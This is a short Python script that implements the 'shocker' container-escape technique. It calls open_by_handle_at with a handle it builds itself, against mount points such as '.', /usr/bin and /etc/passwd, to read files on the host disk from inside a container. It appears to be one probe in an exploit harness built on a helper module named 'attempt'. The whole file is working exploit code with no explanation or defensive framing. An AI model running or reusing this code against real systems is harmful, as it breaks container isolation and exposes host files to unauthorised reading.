import ctypes
import os

from attempt import attempt, call, first


def open_by_handle(kind, handle):
    """A file handle names an inode, whatever is mounted where: one directory of the same disk is enough ("shocker")."""
    return first([lambda door=door: read(door, int(kind), bytes.fromhex(handle)) for door in (".", "/usr/bin", "/usr/lib", "/etc/passwd")])


def read(door, kind, handle):
    mount = os.open(door, os.O_RDONLY)
    header = len(handle).to_bytes(4, "little") + kind.to_bytes(4, "little", signed=True)
    fd = call("open_by_handle_at", mount, ctypes.create_string_buffer(header + handle), os.O_RDONLY)
    return os.read(fd, 4096).decode()


attempt(open_by_handle)
